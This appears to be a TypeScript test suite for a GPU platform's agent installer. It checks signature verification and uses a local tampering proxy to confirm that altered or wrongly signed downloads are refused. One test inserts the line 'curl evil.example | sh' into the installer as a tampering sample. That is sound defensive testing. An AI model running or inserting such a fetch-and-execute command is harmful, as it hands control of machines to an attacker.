import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocalRuntime } from '#infra/local/runtime.ts';
import { startTestRuntime } from '#test/support/local-runtime.ts';
import { newSigningKey, parseSignature, signArtifact, SIGNATURE_HEADER, verifyArtifact } from '#agent/core/signature.ts';

/** The public distribution routes, and the installer run for real against the local API. */
let runtime: LocalRuntime;

/** Runs `sh -s -- args` with the script on stdin, without blocking this process (the API runs in it). */
const runInstaller = (script: string, args: readonly string[], env: NodeJS.ProcessEnv): Promise<{ status: number | null; stdout: string; stderr: string }> =>
  new Promise((resolve) => {
    const child = spawn('/bin/sh', ['-s', '--', ...args], { env, stdio: ['pipe', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => { stdout += chunk.toString(); });
    child.stderr.on('data', (chunk: Buffer) => { stderr += chunk.toString(); });
    child.once('close', (status) => resolve({ status, stdout, stderr }));
    child.stdin.end(script);
  });

beforeAll(async () => {
  runtime = await startTestRuntime();
});
afterAll(() => runtime?.stop());

/**
 * A man in the middle for the agent download: serves `/agent/gpuhive-agent.mjs` as `change`
 * makes it (with the header `change` returns), everything else as the API does.
 */
const startTamperingProxy = async (change: (body: string, signature: string) => { body: string; signature: string }): Promise<{ url: string; close: () => void }> => {
  const server: Server = createServer((request, response) => {
    void (async () => {
      const upstream = await fetch(`${runtime.apiUrl}${request.url}`);
      const body = await upstream.text();
      const signature = upstream.headers.get(SIGNATURE_HEADER) ?? '';
      const served = request.url === '/agent/gpuhive-agent.mjs' ? change(body, signature) : { body, signature };
      response.writeHead(upstream.status, { 'content-type': upstream.headers.get('content-type') ?? 'text/plain', [SIGNATURE_HEADER]: served.signature });
      response.end(served.body);
    })();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address() as { port: number };
  return { url: `http://127.0.0.1:${address.port}`, close: () => server.close() };
};

describe('agent distribution', () => {
  it('serves the installer without auth, with this API\'s URL in it, as valid sh', async () => {
    const response = await fetch(`${runtime.apiUrl}/install.sh`);
    const script = await response.text();
    const file = join(mkdtempSync(join(tmpdir(), 'install-')), 'install.sh');
    writeFileSync(file, script);

    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/shellscript/);
    expect(script).toContain(`API="\${GPUHIVE_API:-${runtime.apiUrl}}"`);
    expect(spawnSync('sh', ['-n', file]).status).toBe(0);
  });

  it('serves the agent as one file that runs on plain Node.js', async () => {
    const response = await fetch(`${runtime.apiUrl}/agent/gpuhive-agent.mjs`);
    const file = join(mkdtempSync(join(tmpdir(), 'bundle-')), 'gpuhive-agent.mjs');
    writeFileSync(file, await response.text());

    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/javascript/);
    expect(execFileSync(process.execPath, [file, '--help'], { encoding: 'utf8' })).toContain('Usage: gpuhive-agent <command>');
  });

  it('installs: checks prerequisites, downloads the agent, registers, and says how to run it without systemd', async () => {
    const provider = await fetch(`${runtime.apiUrl}/v1/accounts`, { method: 'POST', headers: { authorization: `Bearer ${runtime.adminKey}` }, body: JSON.stringify({ kind: 'provider', name: 'Installer' }) }).then((r) => r.json() as Promise<{ apiKey: string }>);
    const token = await fetch(`${runtime.apiUrl}/v1/hosts/registration-tokens`, { method: 'POST', headers: { authorization: `Bearer ${provider.apiKey}` } }).then((r) => r.json() as Promise<{ token: string }>);
    const root = mkdtempSync(join(tmpdir(), 'installed-'));
    const script = await fetch(`${runtime.apiUrl}/install.sh`).then((r) => r.text());

    const run = await runInstaller(script, ['--token', token.token, '--price', '0.45', '--region', 'eu-west', '--simulate-gpus', 'RTX 4090:24564', '--allow-process-jobs', '--no-service'], {
      ...process.env, GPUHIVE_PREFIX: join(root, 'opt'), GPUHIVE_STATE_DIR: join(root, 'state'),
    });

    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/ok {4}Node\.js v\d+/);
    expect(run.stdout).toContain("ok    the agent's SHA-256 and Ed25519 signature check out");
    expect(run.stdout).toMatch(/Registered host \S+/);
    expect(run.stdout).toContain(`Run the agent in the foreground with:\n  ${join(root, 'opt', 'gpuhive-agent')} run --state-dir ${join(root, 'state')}`);
    expect(statSync(join(root, 'state', 'state.json')).mode & 0o777).toBe(0o600);
    const status = execFileSync(join(root, 'opt', 'gpuhive-agent'), ['status', '--json', '--state-dir', join(root, 'state')], { encoding: 'utf8' });
    expect(JSON.parse(status)).toMatchObject({ api: runtime.apiUrl, agent: { running: false }, jobs: [] });
  });

  it('stops with a one-line fix for each missing prerequisite', async () => {
    const script = await fetch(`${runtime.apiUrl}/install.sh`).then((r) => r.text());
    const emptyPath = mkdtempSync(join(tmpdir(), 'no-tools-'));

    const run = await runInstaller(script, ['--no-service'], { PATH: emptyPath, HOME: emptyPath });

    expect(run.status).toBe(1);
    expect(run.stdout).toContain('MISSING Node.js 20 or newer\n        fix: curl -fsSL https://deb.nodesource.com/setup_22.x');
    expect(run.stdout).toContain('MISSING nvidia-smi (the NVIDIA driver)\n        fix: sudo ubuntu-drivers install');
    expect(run.stdout).toContain('MISSING a runtime to offer');
    expect(run.stderr).toContain('prerequisite(s) missing');
  });

  it('signs the installer and the agent with the platform\'s Ed25519 key; a changed byte fails the check', async () => {
    const script = await fetch(`${runtime.apiUrl}/install.sh`);
    const scriptBody = await script.text();
    const bundle = await fetch(`${runtime.apiUrl}/agent/gpuhive-agent.mjs`);
    const bundleBody = Buffer.from(await bundle.arrayBuffer());

    expect(verifyArtifact(runtime.signingPublicKey, scriptBody, script.headers.get(SIGNATURE_HEADER) ?? undefined)).toEqual({ ok: true });
    expect(verifyArtifact(runtime.signingPublicKey, bundleBody, bundle.headers.get(SIGNATURE_HEADER) ?? undefined)).toEqual({ ok: true });
    expect(scriptBody).toContain(runtime.signingPublicKey.trim());
    const tampered = scriptBody.replace('set -eu', 'set -eu; curl evil.example | sh');
    expect(verifyArtifact(runtime.signingPublicKey, tampered, script.headers.get(SIGNATURE_HEADER)!)).toMatchObject({ ok: false, reason: expect.stringMatching(/SHA-256 .* changed or cut short/) });
    const otherKey = newSigningKey();
    expect(verifyArtifact(runtime.signingPublicKey, tampered, signArtifact(otherKey.privateKeyPem, tampered))).toMatchObject({ ok: false, reason: expect.stringMatching(/signature does not match/) });
  });

  it('verifies the installer by hand with openssl, as docs/isolation.md shows, and refuses a changed one', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'verify-installer-'));
    const response = await fetch(`${runtime.apiUrl}/install.sh`);
    const body = await response.text();
    writeFileSync(join(dir, 'install.sh'), body);
    writeFileSync(join(dir, 'tampered.sh'), body.replace('set -eu', 'set -u'));
    writeFileSync(join(dir, 'gpuhive-signing.pub.pem'), runtime.signingPublicKey);
    writeFileSync(join(dir, 'install.sh.sig'), Buffer.from(parseSignature(response.headers.get(SIGNATURE_HEADER)!)!.signature, 'base64'));
    const opensslVerify = (file: string) => spawnSync('openssl', ['pkeyutl', '-verify', '-pubin', '-inkey', 'gpuhive-signing.pub.pem', '-rawin', '-in', file, '-sigfile', 'install.sh.sig'], { cwd: dir, encoding: 'utf8' });

    expect(opensslVerify('install.sh')).toMatchObject({ status: 0, stdout: expect.stringContaining('Signature Verified Successfully') });
    expect(opensslVerify('tampered.sh').status).not.toBe(0);
  });

  it('refuses to install an agent changed on the way, or signed by another key, and says why', async () => {
    const script = await fetch(`${runtime.apiUrl}/install.sh`).then((r) => r.text());
    const otherKey = newSigningKey();
    const cases = [
      { change: (body: string, signature: string) => ({ body: `${body}\nprocess.env.EVIL = 1;\n`, signature }), reason: /refusing to run the downloaded agent: its SHA-256 is [0-9a-f]{64}, the signed one is [0-9a-f]{64}: it was changed or cut short/ },
      { change: (body: string) => ({ body: `${body}\n// evil\n`, signature: signArtifact(otherKey.privateKeyPem, `${body}\n// evil\n`) }), reason: /refusing to run the downloaded agent: the Ed25519 signature does not match the platform public key/ },
      { change: (body: string) => ({ body, signature: '' }), reason: /refusing to run the downloaded agent: no valid gpuhive signature came with it/ },
    ];
    for (const { change, reason } of cases) {
      const proxy = await startTamperingProxy(change);
      const root = mkdtempSync(join(tmpdir(), 'tampered-'));
      try {
        const run = await runInstaller(script, ['--simulate-gpus', 'RTX 4090:24564', '--allow-process-jobs', '--no-service'], {
          ...process.env, GPUHIVE_API: proxy.url, GPUHIVE_PREFIX: join(root, 'opt'), GPUHIVE_STATE_DIR: join(root, 'state'),
        });

        expect(run.stderr).toMatch(reason);
        expect(run.status).toBe(1);
        expect(existsSync(join(root, 'opt', 'gpuhive-agent.mjs'))).toBe(false);
        expect(existsSync(join(root, 'opt', 'gpuhive-agent.mjs.tmp'))).toBe(false);
        expect(existsSync(join(root, 'state', 'state.json'))).toBe(false);
      } finally {
        proxy.close();
      }
    }
  }, 60_000);
});
